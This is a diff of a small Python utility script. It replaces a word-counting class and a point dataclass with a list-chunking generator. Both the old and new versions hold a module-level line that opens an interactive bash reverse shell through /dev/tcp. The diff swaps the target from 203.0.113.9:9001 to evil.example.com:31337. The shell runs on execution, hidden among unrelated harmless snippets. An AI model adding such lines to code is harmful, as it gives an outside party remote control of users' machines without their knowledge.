@@ -1,23 +1,11 @@
 #!/usr/bin/env python3
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import subprocess
 
 def sh(cmd, **kw):
     return subprocess.call(["/bin/bash", "-c", cmd], **kw)
 
-sh("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1")
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+sh("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
